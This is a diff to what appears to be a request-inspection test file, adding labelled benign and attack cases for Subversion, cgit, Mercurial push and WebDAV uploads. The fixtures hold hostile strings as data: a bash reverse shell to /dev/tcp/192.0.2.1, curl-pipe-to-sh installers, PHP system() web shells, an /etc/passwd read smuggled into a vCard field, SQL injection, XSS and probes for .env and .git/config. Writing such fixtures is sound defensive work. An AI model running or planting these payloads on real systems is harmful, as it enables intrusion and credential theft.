@@ -21,6 +21,16 @@ function kept(name: string, content: string, folder = '/api/contents'): Inspecte
   return { method: 'PUT', target: `${folder}/${name}`, headers: ['content-type', 'application/json'], body }
 }
 
+/** As `hg push` hands over what was changed. */
+function pushed(content: string, type = 'application/mercurial-0.1', start = 'HG20'): InspectedRequest {
+  return {
+    method: 'POST',
+    target: '/shop?cmd=unbundle',
+    headers: ['content-type', type],
+    body: Buffer.concat([Buffer.from(start), Buffer.from([0, 0, 0, 7, 255]), Buffer.from(content)]),
+  }
+}
+
 /** A sequence in DER that fills the file, with some bytes in it. */
 function der(inside: Buffer | string = Buffer.alloc(600, 5)): Buffer {
   const content = Buffer.from(inside)
@@ -46,6 +56,51 @@ const KINDS: HonestKinds = {
       asked('/migrations/../dump.sql', {}),
       asked('/data/dump.sql', {}),
       asked('/migrations/old.bak', {}),
+    ],
+  },
+  'files of a repository in Subversion and in cgit': {
+    honest: [
+      asked('/svn/trunk/.env', {}),
+      asked('/svn/shop/branches/next/config/.htaccess', {}),
+      put('/svn/!svn/txr/3-5/trunk/.env'),
+      asked('/cgit/shop.git/tree/.env', { h: 'main' }),
+      asked('/shop.git/plain/db/schema.sql', {}),
+    ],
+    attacks: [
+      asked('/trunk/.env', {}),
+      asked('/svn/branches/.env', {}),
+      put('/svn/trunk/.htaccess'),
+      asked('/svn/trunk/.git/config', {}),
+      asked('/.git/tree/.env', {}),
+      asked('/shop.git/.env', {}),
+    ],
+  },
+  'sources that a client of Mercurial pushes': {
+    honest: [
+      pushed('index.php\n<?php system("make"); ?>\n'),
+      pushed('run.sh\ncd /tmp; cat /etc/passwd\n', 'application/mercurial-0.2', 'HG10'),
+    ],
+    attacks: [
+      pushed('index.php\n<?php system("make"); ?>\n', 'application/mercurial-0.1', 'HG30'),
+      pushed('index.php\n<?php system("make"); ?>\n', 'application/mercurial-0.1x'),
+      pushed('run.sh\ncd /tmp; cat /etc/passwd\n', 'image/png'),
+    ],
+  },
+  'cards, dates and sources that are put by their names': {
+    honest: [
+      put('/ann/book/c1.vcf', 'BEGIN:VCARD\r\nNOTE:on the server && cat /etc/passwd\r\nEND:VCARD\r\n'),
+      put('/ann/work/e1.ics', 'BEGIN:VCALENDAR\r\nDESCRIPTION:x; SELECT * FROM x\r\n'),
+      put('/docs/run.sh', '#!/bin/sh\ncurl -fsSL https://x.example/install.sh | sh\n'),
+      put('/dav/Dockerfile', 'FROM debian\nRUN curl -fsSL https://x.example/install.sh | sh\n'),
+      put('/docs/Main.java', 'class Main { String q = "\' UNION SELECT password FROM users-- "; }\n'),
+    ],
+    attacks: [
+      put('/docs/run.sh', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n'),
+      put('/docs/run', '#!/bin/sh\ncurl -fsSL https://x.example/install.sh | sh\n'),
+      put('/docs/x.php', '#!/bin/sh\n<?php system("id"); ?>\n'),
+      put('/docs/x.html', '<script>alert(1)</script>'),
+      put('/ann/c1.vcf/x', 'BEGIN:VCARD\r\nNOTE:on the server && cat /etc/passwd\r\nEND:VCARD\r\n'),
+      posted('text/vcard', 'BEGIN:VCARD\r\nNOTE:x && cat /etc/passwd\r\n', '/c1.vcf'),
     ],
   },
   'files that people edit in Jupyter': {
